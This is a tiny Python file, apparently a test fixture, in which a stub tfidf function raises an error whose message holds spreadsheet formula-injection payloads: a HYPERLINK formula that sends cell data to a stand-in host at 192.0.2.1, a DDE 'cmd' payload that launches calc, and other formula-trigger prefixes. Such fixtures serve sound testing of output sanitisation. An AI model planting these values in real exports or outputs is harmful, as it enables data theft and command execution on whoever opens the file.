"""Raises formulas that a spreadsheet would run."""


def tfidf(counts):
    raise ValueError("=HYPERLINK(\"http://192.0.2.1/?\"&A1;\"accepted\")\n+cmd|' /C calc'!A0\n-1+1\n@SUM(1)\t=1+1")
